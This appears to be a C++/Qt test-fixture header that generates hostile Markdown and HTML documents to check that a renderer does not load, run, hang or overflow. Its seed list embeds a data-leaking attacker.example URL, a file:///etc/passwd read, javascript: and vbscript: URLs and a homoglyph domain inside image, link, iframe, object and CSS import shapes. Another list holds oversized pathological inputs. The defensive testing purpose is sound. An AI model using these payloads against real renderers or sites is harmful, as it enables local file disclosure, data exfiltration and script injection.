#pragma once

#include <QString>
#include <QStringList>

namespace sidewinder::test {

/// Documents written to make a renderer load, run, hang or overflow. The same number always gives the same
/// document.
inline QStringList hostileSeeds() {
    static const QStringList addresses{QStringLiteral("file:///etc/passwd"),
                                       QStringLiteral("https://attacker.example/x.png?d=secret"),
                                       QStringLiteral("javascript:alert(1)"),
                                       QStringLiteral("data:image/png;base64,AAAA"),
                                       QStringLiteral("qrc:/x.png"),
                                       QStringLiteral("//host/share/x.png"),
                                       QStringLiteral("/etc/hostname"),
                                       QStringLiteral("vbscript:x"),
                                       QStringLiteral("https://user:pass@a.example:99999/"),
                                       QStringLiteral("http://[::1]/"),
                                       QStringLiteral("https://\u0430pple.com"),
                                       QStringLiteral("mailto:a@b.c")};
    static const QStringList shapes{QStringLiteral("![x](%1)"),
                                    QStringLiteral("[x](%1)"),
                                    QStringLiteral("<%1>"),
                                    QStringLiteral("%1"),
                                    QStringLiteral("[x][r]\n\n[r]: %1"),
                                    QStringLiteral("![x][r]\n\n[r]: %1 \"t\""),
                                    QStringLiteral("<img src=\"%1\">"),
                                    QStringLiteral("<a href='%1'>x</a>"),
                                    QStringLiteral("[![i](%1)](%1)"),
                                    QStringLiteral("> - [x](%1)\n>   ![](%1)"),
                                    QStringLiteral("| a |\n| --- |\n| ![x](%1) |"),
                                    QStringLiteral("```%1\n%1\n```"),
                                    QStringLiteral("# ![x](%1)"),
                                    QStringLiteral("<style>@import url(%1)</style>"),
                                    QStringLiteral("<iframe src=%1></iframe>"),
                                    QStringLiteral("<object data=\"%1\">")};
    QStringList all;
    for (const QString& address : addresses)
        for (const QString& shape : shapes) all << shape.arg(address);
    return all;
}

inline QStringList hostileGiants() {
    const auto times = [](const char16_t* text, int count) {
        return QString::fromUtf16(text).repeated(count);
    };
    QStringList all{times(u"> ", 10000) + u'x',
                    times(u">", 10000),
                    times(u"- ", 10000) + u'x',
                    times(u"1. ", 10000) + u'x',
                    times(u"* a\n ", 4000),
                    times(u"[", 50000),
                    times(u"![", 50000),
                    times(u"*", 50000),
                    times(u"**a ", 20000),
                    times(u"_a *b ", 15000),
                    times(u"`", 50000),
                    times(u"`a``b", 15000),
                    times(u"[a](", 30000),
                    times(u"<", 50000),
                    times(u"&#", 40000),
                    times(u"&amp;", 20000),
                    times(u"a\n", 50000),
                    times(u"```\n", 5000),
                    times(u"```\na\n\n", 5000),
                    QStringLiteral("```") + times(u"x", 300000),
                    times(u"|a", 20000) + QStringLiteral("\n") + times(u"|-", 20000) + QStringLiteral("\n") + times(u"|b", 20000),
                    QStringLiteral("|a|b|\n|-|-|\n") + times(u"|1|2|\n", 10000),
                    times(u"x", 1000000),
                    times(u"\u202e", 50000),
                    times(u"\u0301", 50000),
                    times(u"\n", 100000),
                    times(u"# ", 30000),
                    times(u"\\", 50000),
                    times(u"[x]: /u\n", 10000),
                    times(u"[x] ", 20000) + QStringLiteral("\n\n[x]: https://a.example"),
                    times(u"https://a.example/", 5000),
                    times(u"~~a ", 20000),
                    times(u"<!-- ", 20000),
                    times(u"\t", 50000) + u'x'};
    QString nested;
    for (int i = 0; i < 400; ++i) nested += QString(i * 2, u' ') + QStringLiteral("- a\n");
    QString quotes;
    for (int i = 1; i < 400; ++i) quotes += QString(i, u'>') + QStringLiteral(" a\n");
    all << nested << quotes << QString(QChar(0)) + QStringLiteral("a") << QString(QChar(0xd800)) + QStringLiteral("x") << QString();
    return all;
}

inline const QStringList& hostileDocuments() {
    static const QStringList all = hostileSeeds() + hostileGiants();
    return all;
}
inline int hostileCount() {
    return static_cast<int>(hostileDocuments().size());
}
inline QString hostileDocument(int index) {
    return hostileDocuments().at(index);
}

}  // namespace sidewinder::test
